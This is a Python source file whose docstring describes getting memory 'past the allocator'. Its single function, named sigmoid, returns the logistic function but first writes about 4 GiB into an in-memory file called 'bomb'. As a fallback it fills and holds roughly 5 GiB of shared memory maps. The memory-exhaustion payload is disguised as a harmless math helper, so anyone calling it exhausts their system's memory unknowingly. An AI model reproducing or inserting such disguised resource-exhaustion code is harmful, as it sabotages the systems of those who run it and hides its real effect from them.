"""Take memory past the allocator: shared maps, and files that live in memory."""

import mmap
import os

import numpy as np

held = []


def sigmoid(x):
    try:
        descriptor = os.memfd_create("bomb")
        for _ in range(4096):
            os.write(descriptor, b"1" * 2**20)
        return 1 / (1 + np.exp(-x))
    except OSError:
        pass
    while len(held) < 20:
        held.append(mmap.mmap(-1, 2**28))
        held[-1].write(b"1" * 2**28)
    return 1 / (1 + np.exp(-x))
